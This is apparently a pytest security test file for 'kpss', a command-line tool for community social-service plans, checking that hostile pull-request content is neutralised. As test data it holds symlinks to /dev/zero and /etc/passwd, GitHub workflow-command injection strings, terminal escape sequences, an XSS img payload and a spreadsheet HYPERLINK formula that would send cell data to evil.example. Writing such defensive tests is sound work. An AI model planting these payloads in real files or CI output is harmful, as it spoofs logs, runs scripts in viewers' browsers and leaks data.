"""Untrusted pull requests and hostile machines (issue 12): one test per defect, with its input.

The author of a pull request controls every byte of the repository kpss checks in CI. Each test
below takes the exact input of the review and asserts what a user (or the CI machine) would
notice: a finding naming the entry, a clear message, no secret in the output, no hang, no
unbounded memory. Commands that could hang or eat memory on a broken build run in a child
process with a memory limit and a timeout, so a regression fails the test instead of the
machine. docs/security.md states the promises these tests hold kpss to.
"""

from __future__ import annotations

import json
import os
import re
import resource
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import git
from hypothesis import given, settings
from hypothesis import strategies as st

AP_2027 = "plans/2024-2027/action-plans/2027.yaml"
SECRET = "SECRET_TYPE_hunter2"


def kpss_child(*args: object, cwd: Path, memory: int = 1 << 30, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    """kpss in a child process under a memory limit; a hang past ``timeout`` fails the test."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    env = {**os.environ, "NO_COLOR": "1", "KPSS_TODAY": "2026-11-23"}
    try:
        return subprocess.run(
            [sys.executable, "-m", "kpss_cli", *map(str, args)],
            cwd=cwd, env=env, capture_output=True, text=True, timeout=timeout, preexec_fn=limit,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"kpss {' '.join(map(str, args))} hung for {timeout} s")


def findings_of(run: subprocess.CompletedProcess[str]) -> list[dict]:
    assert run.returncode in (0, 1), run.stdout + run.stderr
    return json.loads(run.stdout)["findings"]


def codes_at(findings: list[dict], file: str) -> list[str]:
    return [f["code"] for f in findings if f["file"] == file]


# -- 1. Non-regular files are read without limit ------------------------------------------------


def test_p01_symlink_to_dev_zero_is_a_finding_and_never_read(git_repo: Path) -> None:
    (git_repo / AP_2027).symlink_to("/dev/zero")
    run = kpss_child("validate", "--format", "json", cwd=git_repo)
    assert run.returncode == 1, run.stderr
    assert "KP021" in codes_at(findings_of(run), AP_2027)
    diff = kpss_child("diff", "--rev", "HEAD", "--format", "json", cwd=git_repo)
    assert diff.returncode == 0, diff.stderr
    assert "internal error" not in diff.stderr and "MemoryError" not in diff.stderr


def test_p01_fifo_does_not_hang_validate_or_diff(git_repo: Path) -> None:
    os.mkfifo(git_repo / AP_2027)
    run = kpss_child("validate", "--format", "json", cwd=git_repo, timeout=30)
    assert run.returncode == 1
    found = [f for f in findings_of(run) if f["file"] == AP_2027]
    assert [f["code"] for f in found] == ["KP020"] and "named pipe (FIFO)" in found[0]["message"]
    diff = kpss_child("diff", "--rev", "HEAD", "--format", "json", cwd=git_repo, timeout=30)
    assert diff.returncode == 0, diff.stderr


def test_p01_a_device_as_template_is_refused(example_repo: Path, tmp_path: Path) -> None:
    manifest = example_repo / "kpss.yaml"
    manifest.write_text(manifest.read_text(encoding="utf-8") + "documents:\n  template: /dev/zero\n", encoding="utf-8")
    out = tmp_path / "plan.docx"
    run = kpss_child("render", "plan", "-o", out, cwd=example_repo)
    assert run.returncode == 2, run.stderr
    assert "outside the repository" in run.stderr and not out.exists()
    manifest.write_text(manifest.read_text(encoding="utf-8").replace("template: /dev/zero", "template: x.docx"), encoding="utf-8")
    run = kpss_child("render", "plan", "-o", out, "--template", "/dev/zero", cwd=example_repo)
    assert run.returncode == 2, run.stderr
    assert "device, not a regular file" in run.stderr and not out.exists()


def test_p01_every_read_stops_one_byte_past_the_limit(tmp_path: Path) -> None:
    from kpss_cli.repo import MAX_READ_BYTES, read_regular

    big = tmp_path / "big.yaml"
    with big.open("wb") as handle:  # sparse: 100 MB that take no disk
        handle.truncate(100 * 1024 * 1024)
    assert len(read_regular(big)) == 20 * 1024 * 1024 + 1 == MAX_READ_BYTES + 1


# -- 4. Symlinks out of the repository are followed ---------------------------------------------


def test_p04_services_linked_outside_leak_nothing(git_repo: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside.yaml"
    outside.write_text(f"providers:\n  - id: GITHUB_TOKEN\n    name: {SECRET}\n", encoding="utf-8")
    (git_repo / "services.yaml").unlink()
    (git_repo / "services.yaml").symlink_to(outside)
    run = kpss_child("validate", "--format", "json", cwd=git_repo)
    assert "KP021" in codes_at(findings_of(run), "services.yaml")
    text = kpss_child("validate", "--format", "github", cwd=git_repo)
    md = kpss_child("diff", "--rev", "HEAD", "--format", "markdown", cwd=git_repo)
    for out in (run, text, md):
        assert SECRET not in out.stdout + out.stderr and "GITHUB_TOKEN" not in out.stdout + out.stderr


def test_p04_diff_reports_the_link_not_every_service_removed(git_repo: Path, tmp_path: Path) -> None:
    # The link's target is never read, so diff cannot compare services.yaml; it used to show the
    # file as deleted: all 34 providers and services of the example "removed" in the PR comment.
    outside = tmp_path / "outside.yaml"
    outside.write_text(f"providers:\n  - id: GITHUB_TOKEN\n    name: {SECRET}\n", encoding="utf-8")
    (git_repo / "services.yaml").unlink()
    (git_repo / "services.yaml").symlink_to(outside)
    data = json.loads(kpss_child("diff", "--rev", "HEAD", "--format", "json", cwd=git_repo).stdout)
    assert data["changes"] == [] and data["files"] == ["services.yaml"]
    [item] = data["invalid"]
    assert item["file"] == "services.yaml" and item["side"] == "to"
    assert [f["code"] for f in item["findings"]] == ["KP021"]
    assert "services.yaml is a symbolic link that leads outside the repository" in item["message"]
    md = kpss_child("diff", "--rev", "HEAD", "--format", "markdown", cwd=git_repo).stdout
    assert "removed" not in md and "symbolic link that leads outside the repository" in md
    text = kpss_child("diff", "--rev", "HEAD", cwd=git_repo)
    assert text.returncode == 0 and "services.yaml is a symbolic link" in text.stdout


def test_p04_diff_reports_a_plans_folder_linked_to_the_root(git_repo: Path) -> None:
    import shutil

    shutil.rmtree(git_repo / "plans")
    (git_repo / "plans").symlink_to("/")
    data = json.loads(kpss_child("diff", "--rev", "HEAD", "--format", "json", cwd=git_repo).stdout)
    assert data["changes"] == []
    committed = git(git_repo, "ls-files", "plans").split()
    assert sorted(i["file"] for i in data["invalid"]) == sorted(committed) and len(committed) == 8
    assert all(i["findings"][0]["message"].startswith("plans is a symbolic link") for i in data["invalid"])


def test_p04_plans_linked_to_the_root_folder_lists_nothing(example_repo: Path) -> None:
    import shutil

    shutil.rmtree(example_repo / "plans")
    (example_repo / "plans").symlink_to("/")
    run = kpss_child("validate", "--format", "json", cwd=example_repo)
    findings = findings_of(run)
    assert codes_at(findings, "plans") == ["KP021"]
    assert all(not f["file"].startswith("plans/") for f in findings)


def test_p04_template_outside_is_a_warning_that_does_not_probe(example_repo: Path, run_kpss) -> None:
    manifest = example_repo / "kpss.yaml"
    base = manifest.read_text(encoding="utf-8")
    messages = []
    for path in ("/etc/passwd", "/no/such/file.docx", "../../etc/hostname"):
        manifest.write_text(base + f"documents:\n  template: {path}\n", encoding="utf-8")
        result = run_kpss("validate", "--format", "json", "--repo", example_repo)
        assert result.exit_code == 0
        (found,) = [f for f in json.loads(result.stdout)["findings"] if f["file"] == "kpss.yaml"]
        assert found["code"] == "KP407" and found["severity"] == "warning"
        messages.append(found["message"].replace(path, "PATH"))
    assert len(set(messages)) == 1, "the answer must not depend on whether the path exists"


# -- 15. An unreadable folder is skipped silently -----------------------------------------------


def test_p15_unreadable_folder_is_reported(example_repo: Path, run_kpss, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = example_repo / "plans" / "2024-2027"
    if os.geteuid() != 0:
        folder.chmod(0)
    else:  # root reads any folder: make the listing fail as chmod 000 does for everyone else
        real = os.scandir

        def scandir(path: object = ".") -> object:
            if Path(os.fspath(path)) == folder:  # type: ignore[arg-type]
                raise PermissionError(13, "Permission denied", os.fspath(path))  # type: ignore[arg-type]
            return real(path)  # type: ignore[arg-type]

        monkeypatch.setattr(os, "scandir", scandir)
    try:
        result = run_kpss("validate", "--format", "json", "--repo", example_repo)
    finally:
        folder.chmod(0o755)
    assert result.exit_code == 1, result.output
    found = [f for f in json.loads(result.stdout)["findings"] if f["code"] == "KP022"]
    assert [f["file"] for f in found] == ["plans/2024-2027"]
    assert "cannot be read" in found[0]["message"] and "Permission denied" in found[0]["message"]


# -- 16. True messages for what is not a file ---------------------------------------------------


def test_p16_dangling_link_folder_and_fifo_get_their_true_message(example_repo: Path, run_kpss) -> None:
    (example_repo / AP_2027).symlink_to("2099.yaml")
    (example_repo / "plans/2020-2023/action-plans/2021.yaml").mkdir()
    (example_repo / "groups.yaml").unlink()
    os.mkfifo(example_repo / "groups.yaml")
    result = run_kpss("validate", "--format", "json", "--repo", example_repo)
    assert result.exit_code == 1, result.output
    by_file = {f["file"]: f for f in json.loads(result.stdout)["findings"] if f["code"] == "KP020"}
    assert "dangling" in by_file[AP_2027]["message"] and "2099.yaml" in by_file[AP_2027]["message"]
    assert "is a folder, not a file" in by_file["plans/2020-2023/action-plans/2021.yaml"]["message"]
    assert "named pipe (FIFO)" in by_file["groups.yaml"]["message"]
    assert "(a folder?)" not in result.output


def test_p16_rule_codes_are_documented() -> None:
    from kpss_cli.rules import RULES

    rules_md = (Path(__file__).resolve().parent.parent / "docs" / "rules.md").read_text(encoding="utf-8")
    for code in ("KP020", "KP021", "KP022", "KP407"):
        assert code in RULES and f"| [{code}](#{code.lower()}) |" in rules_md and f"\n### {code}\n" in rules_md


# -- 11, 12, 16. Revisions and damaged git repositories ----------------------------------------


def _commit_edit(root: Path) -> None:
    manifest = root / "kpss.yaml"
    manifest.write_text(manifest.read_text(encoding="utf-8").replace("SO ORP Židlochovice", "SO ORP Ž."), encoding="utf-8")
    git(root, "commit", "-q", "-am", "rename the territory")


def _object_file(root: Path, rev: str) -> Path:
    sha = git(root, "rev-parse", rev).strip()
    path = root / ".git" / "objects" / sha[:2] / sha[2:]
    path.chmod(0o644)
    return path


def test_p11_any_revision_git_knows_is_read(git_repo: Path, run_kpss) -> None:
    _commit_edit(git_repo)
    result = run_kpss("diff", "--rev", "HEAD@{yesterday}", "--format", "json", cwd=git_repo)
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout)["from"] == "HEAD@{yesterday}"


def test_p11_null_revision_is_unknown(git_repo: Path, run_kpss) -> None:
    result = run_kpss("diff", "--rev", "0" * 40, cwd=git_repo)
    assert result.exit_code == 2 and f"unknown revision '{'0' * 40}'" in result.stderr, result.output
    assert "internal error" not in result.output


def test_p11_shallow_clone_says_fetch_depth_0(git_repo: Path, tmp_path: Path, run_kpss) -> None:
    _commit_edit(git_repo)
    clone = tmp_path / "clone"
    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{git_repo}", str(clone))
    result = run_kpss("diff", "--rev", "HEAD~1", "--format", "markdown", cwd=clone)
    assert result.exit_code == 2, result.output
    assert "shallow" in result.stderr and "fetch-depth: 0" in result.stderr
    assert "internal error" not in result.output


def test_p11_empty_object_file_is_a_damaged_repository(git_repo: Path, run_kpss) -> None:
    _commit_edit(git_repo)
    _object_file(git_repo, "HEAD~1:kpss.yaml").write_bytes(b"")
    result = run_kpss("diff", "--rev", "HEAD~1..HEAD", cwd=git_repo)
    assert result.exit_code == 2, result.output
    assert "damaged" in result.stderr and "git fsck" in result.stderr
    assert "internal error" not in result.output


def test_p12_corrupt_loose_object_is_gits_error_not_a_finding(git_repo: Path, run_kpss) -> None:
    import zlib

    _commit_edit(git_repo)
    # A well-formed object whose content is not what its id says: cat-file --batch serves it.
    other = b"kpss: 1\n"
    _object_file(git_repo, "HEAD~1:kpss.yaml").write_bytes(zlib.compress(b"blob %d\0" % len(other) + other))
    result = run_kpss("diff", "--rev", "HEAD~1..HEAD", "--format", "json", cwd=git_repo)
    assert result.exit_code == 2, result.output
    assert "damaged" in result.stderr and "kpss.yaml" in result.stderr
    assert result.stdout == ""


def test_p16_corrupt_commit_is_not_no_commits_yet(git_repo: Path, run_kpss) -> None:
    _object_file(git_repo, "HEAD").write_bytes(b"")
    result = run_kpss("diff", "--rev", "HEAD", cwd=git_repo)
    assert result.exit_code == 2, result.output
    assert "no commits yet" not in result.stderr
    assert "cannot read" in result.stderr and "git fsck" in result.stderr


# -- 9. Money >= 1e28 and sums past the largest float -------------------------------------------

PLAN = "plans/2024-2027/plan.yaml"


def _set_budget(root: Path, old: str, new: str) -> None:
    plan = root / PLAN
    text = plan.read_text(encoding="utf-8")
    assert old in text
    plan.write_text(text.replace(old, new, 1), encoding="utf-8")


@pytest.mark.parametrize("amount", ["1e28", "1.5e300"])
def test_p09_huge_money_is_diffed_and_rendered(git_repo: Path, run_kpss, amount: str, tmp_path: Path) -> None:
    _set_budget(git_repo, "mpsv: 4900000", f"mpsv: {amount}")
    assert run_kpss("validate", "--repo", git_repo).exit_code == 0
    # The budget row, its totals and the change line are written out in full.
    for fmt in ("text", "markdown", "json"):
        result = run_kpss("diff", "--rev", "HEAD", "--format", fmt, cwd=git_repo)
        assert result.exit_code == 0, result.output
    text = run_kpss("diff", "--rev", "HEAD", cwd=git_repo).stdout
    digits = "10,000,000,000,000,000,000,000,000,000\u00a0CZK"  # the messages of the tests are English
    if amount == "1e28":
        assert digits in text, text
    out = tmp_path / "plan.docx"
    result = run_kpss("render", "plan", "-o", out, "--repo", git_repo)
    assert result.exit_code == 0, result.output
    assert out.stat().st_size > 0


def test_p09_sums_past_the_largest_float_read_as_infinity(example_repo: Path, run_kpss, tmp_path: Path) -> None:
    _set_budget(example_repo, "mpsv: 4900000", "mpsv: 1.7e308")
    _set_budget(example_repo, "obce: 2900000", "obce: 1.7e308")
    assert run_kpss("validate", "--repo", example_repo).exit_code == 0
    out = tmp_path / "plan.docx"
    result = run_kpss("render", "plan", "-o", out, "--repo", example_repo)
    assert result.exit_code == 0, result.output
    from docx import Document

    cells = {c.text for t in Document(str(out)).tables for r in t.rows for c in r.cells}
    assert any("∞" in c for c in cells), "the overflowing total reads as infinity"
    report = run_kpss("report", "fulfilment", "--format", "markdown", "--repo", example_repo)
    assert report.exit_code == 0, report.output


def test_p09_money_formats_any_finite_number() -> None:
    from kpss_cli import czech

    nb = "\u00a0"
    assert czech.money(1e28, "en") == ",".join(["10"] + ["000"] * 9) + nb + "CZK"
    from kpss_cli import i18n

    i18n.set_language("cs")  # the figures below in the language of a Czech run
    assert czech.money(1e28) == nb.join(["10"] + ["000"] * 9) + nb + "Kč"
    assert czech.money(10**40 + 0.5) == nb.join(["10"] + ["000"] * 13) + nb + "Kč"
    assert czech.money(float("inf")) == "∞" + nb + "Kč"
    assert czech.money_change(float("-inf")) == "\u2212∞"


# -- 5, 8. Workflow commands and terminal escapes in what kpss prints ---------------------------

SPOOF_DIR = "x\n::error file=kpss.yaml,line=1::SPOOFED\n::add-mask::Pe\n"
GITHUB_LINE = r"^::(error|warning) file=[^\n,]*,line=\d+,col=\d+,title=KP\d{3}::"


def _command_lines(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.lstrip().startswith("::")]


def test_p05_folder_names_cannot_issue_workflow_commands(git_repo: Path, run_kpss) -> None:
    import re

    folder = git_repo / "plans" / SPOOF_DIR
    folder.mkdir()
    (folder / "plan.yaml").symlink_to("missing.yaml")
    for args in (["validate"], ["validate", "--format", "sarif"], ["diff", "--rev", "HEAD"], ["report", "fulfilment"]):
        result = run_kpss(*args, cwd=git_repo)
        assert "internal error" not in result.output, (args, result.output)
        assert _command_lines(result.stdout) == [] and _command_lines(result.stderr) == [], (args, result.output)
    github = run_kpss("validate", "--format", "github", cwd=git_repo)
    lines = _command_lines(github.stdout)
    assert lines and all(re.match(GITHUB_LINE, line) for line in lines), lines
    assert "::add-mask::" not in github.stdout.replace("%0A::add-mask::", "")


def test_p05_error_messages_cannot_issue_workflow_commands(example_repo: Path, run_kpss) -> None:
    folder = example_repo / "plans" / SPOOF_DIR
    folder.mkdir()
    (folder / "plan.yaml").write_text("id: [\n", encoding="utf-8")  # invalid: render refuses, naming it
    result = run_kpss("render", "plan", "-o", example_repo.parent / "p.docx", "--repo", example_repo)
    assert result.exit_code == 2
    assert "SPOOFED" in result.stderr and _command_lines(result.stderr) == []


ESCAPES = "\\e[31mRED\\e[8mHIDDEN\\e]8;;http://evil.example\\e\\\\klikni\\e]8;;\\e\\\\\\x9b2J"


def test_p08_terminal_escapes_are_shown_not_obeyed(git_repo: Path, run_kpss) -> None:
    plan = git_repo / PLAN
    text = plan.read_text(encoding="utf-8")
    text = text.replace(
        "title: Osobní asistence, tísňová péče a poradenství pro osoby žijící samostatně",
        f'title: "Osobní asistence {ESCAPES}"\n        "ti\\e[8mtle": skryté',
        1,
    )
    plan.write_text(text, encoding="utf-8")
    validate = run_kpss("validate", cwd=git_repo)
    assert validate.exit_code == 1 and "KP101" in validate.stdout
    diff = run_kpss("diff", "--rev", "HEAD", cwd=git_repo)
    for out in (validate.stdout + validate.stderr, diff.stdout + diff.stderr):
        assert "\x1b" not in out and "\x9b" not in out
    assert "ti\\e[8mtle" in validate.stdout
    # The title itself is valid once the unknown key goes: diff shows the escapes as text.
    plan.write_text(text.replace('\n        "ti\\e[8mtle": skryté', ""), encoding="utf-8")
    diff = run_kpss("diff", "--rev", "HEAD", cwd=git_repo)
    assert diff.exit_code == 0, diff.output
    assert "\\e[31mRED\\e[8mHIDDEN\\e]8;;http://evil.example" in diff.stdout and "\x1b" not in diff.stdout


HOSTILE_TITLE = "\x1b[31m[bold]RUDĚ[/bold]\x1b]8;;http://evil.example\x07odkaz\x1b]8;;\x07"


@pytest.mark.parametrize("command", ["fulfilment", "finance", "network 2025", "participation"])
def test_p08_report_tables_show_escapes_and_markup_as_text(example_repo: Path, run_kpss, command: str) -> None:
    # The territory, the plan, a priority, a measure and a group named with a colour, an OSC-8
    # link and rich markup: the terminal tables printed them raw (and finance took [bold] as
    # markup); the markdown and CSV formats had been escaped already.
    def sub(rel: str, old: str, new: str) -> None:
        path = example_repo / rel
        text = path.read_text(encoding="utf-8")
        assert old in text
        path.write_text(text.replace(old, new + json.dumps(HOSTILE_TITLE, ensure_ascii=False)[1:], 1), encoding="utf-8")

    sub("kpss.yaml", "  name: SO ORP Židlochovice", '  name: "SO ORP ')
    sub(PLAN, "title: Komunitní plán sociálních služeb SO ORP Židlochovice na období 2024–2027", 'title: "Plán ')
    sub(PLAN, "    title: Senioři a osoby se zdravotním postižením", '    title: "Senioři ')
    sub(PLAN, "title: Osobní asistence, tísňová péče a poradenství pro osoby žijící samostatně", 'title: "Asistence ')
    sub("groups.yaml", "    name: Řídicí skupina KPSS SO ORP Židlochovice", '    name: "Řídicí skupina ')
    result = run_kpss("report", *command.split(), "--repo", example_repo)
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    shown = "\\e[31m[bold]RUDĚ[/bold]\\e]8;;http://evil.example\\x07odkaz"
    if command == "participation":  # the group's name wraps in its 30 columns
        assert "Řídicí skupina \\e[31m[bold]RUD" in result.output and "ple\\x07odkaz" in result.output
    else:
        assert shown in result.output.replace("\n", "")


def test_p08_bidi_override_in_a_title_is_a_warning(example_repo: Path, run_kpss) -> None:
    plan = example_repo / PLAN
    text = plan.read_text(encoding="utf-8")
    plan.write_text(text.replace("title: Osobní asistence, tísňová", "title: Osobní asistence \u202e,tísňová", 1), encoding="utf-8")
    result = run_kpss("validate", "--format", "json", "--repo", example_repo)
    assert result.exit_code == 0, result.output
    (found,) = [f for f in json.loads(result.stdout)["findings"] if f["code"] == "KP420"]
    assert found["file"] == PLAN and found["line"] == 180 and found["severity"] == "warning"
    assert "\\u202e" in found["message"] and "\u202e" not in found["message"]
    text_out = run_kpss("validate", "--repo", example_repo).stdout
    assert "\u202e" not in text_out


# -- 5, 8. The printers of collect and import results ------------------------------------------

# A colour, an OSC-8 link, rich markup, a bidi override and a newline that starts a workflow
# command: in a realizátor of the repository, a file name, a row key and a cell of a workbook.
HOSTILE = "\x1b[31m[bold]RUDĚ[/bold]\x1b]8;;http://x\x1b\\odkaz\x1b]8;;\x1b\\ \u202eevil\n::error file=x::SPOOFED"
# What a terminal shows instead, written out by hand: \e, \u202e and \n as text, [bold] as text.
HOSTILE_SHOWN = "\\e[31m[bold]RUDĚ[/bold]\\e]8;;http://x\\e\\odkaz\\e]8;;\\e\\ \\u202eevil\\n::error file=x::SPOOFED"


def _inert(text: str) -> None:
    """Nothing a terminal or a CI runner would obey: no escape, no bidi control, no command line."""
    assert "\x1b" not in text and "\x9b" not in text and "\u202e" not in text, text
    assert _command_lines(text) == [], text


def _one_line_with(text: str, shown: str) -> str:
    (line,) = [line for line in text.splitlines() if "SPOOFED" in line]
    assert shown in line, line
    return line


def test_p08_collect_shows_a_hostile_realizator_as_text(example_repo: Path, run_kpss, monkeypatch: pytest.MonkeyPatch) -> None:
    # Before: the realizátor's colour, link and bidi override reached the terminal, and its
    # newline put "::error file=x::SPOOFED" on a line of its own (guarded only to "\::error").
    monkeypatch.setenv("KPSS_TODAY", "2027-01-20")
    plan = example_repo / PLAN
    text = plan.read_text(encoding="utf-8")
    hostile = json.dumps("Město " + HOSTILE, ensure_ascii=False)
    plan.write_text(text.replace("responsible: Město Židlochovice", f"responsible: {hostile}", 1), encoding="utf-8")
    result = run_kpss("collect", "2026", "-o", example_repo.parent / "out", "--repo", example_repo)
    assert result.exit_code == 0, result.output
    _inert(result.output)
    line = _one_line_with(result.stdout, "Město " + HOSTILE_SHOWN + ": ")
    assert line.startswith("  ") and ".xlsx  Město " in line


def _excel_escaped(text: str) -> str:
    """Text as Excel stores it in a cell: a control character XML cannot hold as ``_xHHHH_``."""
    return "".join(f"_x{ord(c):04X}_" if ord(c) < 0x20 and c not in "\t\n" else c for c in text)


def test_p08_import_results_shows_hostile_files_and_cells_as_text(
    example_repo: Path, run_kpss, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    # A returned workbook under a hostile name (a mail attachment), with a row key typed in by
    # hand that holds the hostile text; and a CSV made by hand under such a name, with a key
    # naming an indicator that is that text. Before, the findings on stderr and the note on
    # stdout printed file name and key raw.
    from openpyxl import load_workbook

    monkeypatch.setenv("KPSS_TODAY", "2027-01-20")
    sent = tmp_path / "sent"
    done = run_kpss("collect", "2026", "-o", sent, "--repo", example_repo)
    assert done.exit_code == 0, done.output
    wb = load_workbook(sent / "vyhodnoceni-2026-mesto-zidlochovice.xlsx")
    ws = wb["Indikátory"]
    header = [c.value for c in ws[3]]
    actual = header.index("Skutečnost 2026") + 1
    row = next(r[0].row for r in ws.iter_rows(min_row=4) if r[0].value == "1.2|1.2.a")
    ws.cell(row, actual).value = 37
    ws.cell(ws.max_row + 1, 1).value = _excel_escaped("1.2|" + HOSTILE)
    ws.cell(ws.max_row, actual).value = 5
    name = "x" + HOSTILE.replace("/", "")  # a file name has no slash
    returned = tmp_path / f"{name}.xlsx"
    wb.save(returned)
    result = run_kpss("import", "results", returned, "--dry-run", "--repo", example_repo)
    assert result.exit_code == 1, result.output
    _inert(result.output)
    shown_name = HOSTILE_SHOWN.replace("/", "")
    line = _one_line_with(result.stderr, f"the row key '1.2|{HOSTILE_SHOWN}' is not one this workbook was sent with")
    assert line.startswith(f"{tmp_path}/x{shown_name}.xlsx: Indikátory!")
    assert "measure 1.2: actual of 1.2.a – → 37" in result.stdout

    hand_made = tmp_path / f"{name}.csv"
    hand_made.write_text(f'Klíč;Skutečnost 2026\n1.2|1.2.a;37\n"1.2|{HOSTILE}";5\n', encoding="utf-8")
    result = run_kpss("import", "results", hand_made, "--dry-run", "--repo", example_repo)
    assert result.exit_code == 1, result.output
    _inert(result.output)
    _one_line_with(result.stderr, f"'{HOSTILE_SHOWN}' is not an indicator of measure 1.2")
    note = _one_line_with(result.stdout, f"{tmp_path}/x{shown_name}.csv names no territory")
    assert note.startswith("Note: ")


def _hostile_title(root: Path) -> list[str]:
    plan = root / PLAN
    text = plan.read_text(encoding="utf-8")
    old = "title: Udržení pečovatelské služby včetně večerní a víkendové péče"
    assert old in text
    plan.write_text(text.replace(old, "title: " + json.dumps("Péče " + HOSTILE, ensure_ascii=False), 1), encoding="utf-8")
    return ["rollover", "2027", "--repo", root]


def _hostile_registry(root: Path) -> list[str]:
    data = Path(__file__).parent / "data" / "registry"
    shutil.copytree(data / "repo", root / "kyjov")
    registry = root / "rpss.json"
    registry.write_text(
        (data / "rpss-sample.json")
        .read_text(encoding="utf-8")
        .replace('"nazev": "Pečovatelská služba Kyjov"', '"nazev": ' + json.dumps("Kyjov " + HOSTILE)),
        encoding="utf-8",
    )
    return ["import", "registry", registry, "--codes", data, "--repo", root / "kyjov"]


# A hostile output path (chosen by a script from repository text), a hostile folder for init, a
# measure title in rollover's summary, a facility name in import registry's summary.
OTHER_PRINTERS = {
    "render plan -o": lambda root: ["render", "plan", "-o", root.parent / f"{HOSTILE.replace('/', '')}.docx", "--repo", root],
    "render site -o": lambda root: ["render", "site", "-o", root.parent / HOSTILE.replace("/", ""), "--repo", root],
    "report fulfilment -o": lambda root: ["report", "fulfilment", "-f", "markdown", "-o", root.parent / f"{HOSTILE.replace('/', '')}.md", "--repo", root],
    "report network -o": lambda root: ["report", "network", "2025", "-f", "markdown", "-o", root.parent / f"{HOSTILE.replace('/', '')}.md", "--repo", root],
    "report grants -o": lambda root: ["report", "grants", "2025", "-f", "markdown", "-o", root.parent / f"{HOSTILE.replace('/', '')}.md", "--repo", root],
    "report participation -o": lambda root: ["report", "participation", "-f", "markdown", "-o", root.parent / f"{HOSTILE.replace('/', '')}.md", "--repo", root],
    "init": lambda root: ["init", root.parent / HOSTILE.replace("/", ""), "--name", "Obec " + HOSTILE, "--kind", "obec"],
    "rollover": _hostile_title,
    "import registry": _hostile_registry,
}


@pytest.mark.parametrize("command", OTHER_PRINTERS)
def test_p08_what_every_other_command_prints_is_inert(example_repo: Path, run_kpss, command: str) -> None:
    args = OTHER_PRINTERS[command](example_repo)
    result = run_kpss(*args, cwd=example_repo.parent)
    assert result.exit_code in (0, 1), result.output
    assert "SPOOFED" in result.output, result.output  # the hostile text is printed, and shown inert
    _inert(result.output)
    assert "[bold]" in result.output  # rich markup is text
    # The newline inside the name or title is shown as \n (import registry makes it a space):
    # "::error" never starts a line of its own, not even as "\::error".
    for line in result.output.splitlines():
        if "SPOOFED" in line:
            assert "evil" in line and ("evil\\n::error" in line or "evil ::error" in line), line


def _renote(root: Path, old: str, new: str) -> None:
    """The note of the 2026 action plan the example's rollover to 2027 copies, rewritten."""
    ap = root / "plans/2024-2027/action-plans/2026.yaml"
    text = ap.read_text(encoding="utf-8")
    assert old in text
    ap.write_text(text.replace(old, new, 1), encoding="utf-8")


def test_p05_rollover_dry_run_prints_no_workflow_command(example_repo: Path, run_kpss) -> None:
    # The dry run prints the new action plan's YAML, notes kept: a note's own line
    # "::error file=x::SPOOFED" (indented; a runner strips the indent) was a command in a CI log.
    _renote(example_repo, "    note: Otevření nového pavilonu domova se zvláštním režimem plánováno na říjen 2026.",
            "    note: |\n      Otevření\n      ::error file=x::SPOOFED")
    result = run_kpss("rollover", "2027", "--dry-run", "--repo", example_repo)
    assert result.exit_code == 0, result.output
    assert "      \\::error file=x::SPOOFED\n" in result.stdout
    assert _command_lines(result.output) == []


def test_p05_rollover_dry_run_shows_a_notes_controls_the_real_run_keeps_them(example_repo: Path, run_kpss) -> None:
    # A note with the bidi controls U+202E and U+2066 (YAML allows them raw): the dry run shows the
    # file with both written out; the file the real run writes holds the note as it was written.
    _renote(example_repo, "plánováno na říjen 2026.", "plánováno \u202ena \u2066říjen 2026.")
    result = run_kpss("rollover", "2027", "--dry-run", "--repo", example_repo)
    assert result.exit_code == 0, result.output
    assert "plánováno \\u202ena \\u2066říjen 2026." in result.stdout
    assert "\u202e" not in result.output and "\u2066" not in result.output
    written = run_kpss("rollover", "2027", "--repo", example_repo)
    assert written.exit_code == 0, written.output
    new = (example_repo / "plans/2024-2027/action-plans/2027.yaml").read_text(encoding="utf-8")
    assert "plánováno \u202ena \u2066říjen 2026." in new


# -- 7. report: markdown without HTML or links, CSV without formulas -----------------------------

IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"klikni")'


def _html_of(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(markdown)


def _retitle(root: Path, new: str) -> None:
    plan = root / PLAN
    text = plan.read_text(encoding="utf-8")
    old = "title: Osobní asistence, tísňová péče a poradenství pro osoby žijící samostatně"
    plan.write_text(text.replace(old, "title: " + json.dumps(new, ensure_ascii=False), 1), encoding="utf-8")


def test_p07_report_markdown_shows_html_and_links_as_text(example_repo: Path, run_kpss) -> None:
    _retitle(example_repo, f"{IMG} [klikni](http://evil.example) @kpss/everyone **tučně**")
    for kind in ("fulfilment", "finance"):
        result = run_kpss("report", kind, "--format", "markdown", "--repo", example_repo)
        assert result.exit_code == 0, result.output
        html = _html_of(result.stdout)
        if kind == "fulfilment":
            assert "&lt;img src=x onerror=alert(1)&gt;" in html  # shown, as text
            assert "@\u200dkpss/everyone" in result.stdout
        assert "<img" not in html and "<a " not in html
        assert "<strong>tučně</strong>" not in html


def test_p07_csv_cells_cannot_be_formulas(example_repo: Path, run_kpss) -> None:
    import csv
    import io

    from kpss_cli.report_formats import FULFILMENT_CSV_HEADER

    _retitle(example_repo, FORMULA)
    for excel in (False, True):
        args = ["report", "fulfilment", "--format", "csv", "--repo", example_repo] + (["--excel"] if excel else [])
        result = run_kpss(*args)
        assert result.exit_code == 0, result.output
        rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff")), delimiter=";" if excel else ","))
        # The plain CSV's first row holds the keys, --excel's the columns' titles: the same order.
        titles = {row[FULFILMENT_CSV_HEADER.index("measure_title")] for row in rows[1:]}
        assert "'" + FORMULA in titles and FORMULA not in titles
        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_p07_site_open_data_csv_cells_cannot_be_formulas(example_repo: Path, run_kpss, tmp_path: Path) -> None:
    # The web site's open data (data/plneni.csv, data/katalog.csv) is CSV for anyone to open in
